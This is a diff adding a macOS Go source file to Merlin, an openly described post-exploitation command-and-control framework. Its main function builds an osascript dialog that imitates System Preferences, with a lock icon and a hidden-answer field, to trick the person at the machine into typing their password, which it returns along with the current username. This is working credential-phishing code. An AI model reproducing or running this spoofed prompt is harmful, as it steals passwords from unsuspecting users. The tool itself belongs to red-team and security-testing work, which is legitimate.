@@ -0,0 +1,56 @@
+//go:build darwin
+// +build darwin
+
+// Merlin is a post-exploitation command and control framework.
+// This file is part of Merlin.
+// Copyright (C) 2022  Russel Van Tuyl
+
+// Merlin is free software: you can redistribute it and/or modify
+// it under the terms of the GNU General Public License as published by
+// the Free Software Foundation, either version 3 of the License, or
+// any later version.
+
+// Merlin is distributed in the hope that it will be useful,
+// but WITHOUT ANY WARRANTY; without even the implied warranty of
+// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
+// GNU General Public License for more details.
+
+// You should have received a copy of the GNU General Public License
+// along with Merlin.  If not, see <http://www.gnu.org/licenses/>.
+
+package commands
+
+import (
+	// Standard
+	"fmt"
+	"os/exec"
+	"os/user"
+	"strings"
+)
+
+// promptCredentials shows an osascript dialog with a hidden answer and the System Preferences icon
+func promptCredentials(caption, message string) (username, domain, password string, err error) {
+	if caption == defaultCredCaption {
+		caption = "System Preferences"
+	}
+	script := fmt.Sprintf(`display dialog %s with title %s default answer "" with hidden answer with icon file ((path to library folder from system domain as text) & "CoreServices:CoreTypes.bundle:Contents:Resources:LockedIcon.icns") buttons {"Cancel", "OK"} default button "OK"
+return text returned of result`, appleQuote(message), appleQuote(caption))
+	out, err := exec.Command("osascript", "-e", script).Output()
+	if err != nil {
+		return "", "", "", err
+	}
+	if u, e := user.Current(); e == nil {
+		username = u.Username
+	}
+	return username, "", strings.TrimSuffix(string(out), "\n"), nil
+}
+
+// verifyCredentials is not supported because the available tools take the password as a process argument
+func verifyCredentials(user, domain, password string) error {
+	return fmt.Errorf("credential verification is only implemented for Windows")
+}
+
+// appleQuote quotes a string for an AppleScript string literal
+func appleQuote(s string) string {
+	return `"` + strings.NewReplacer(`\`, `\\`, `"`, `\"`).Replace(s) + `"`
+}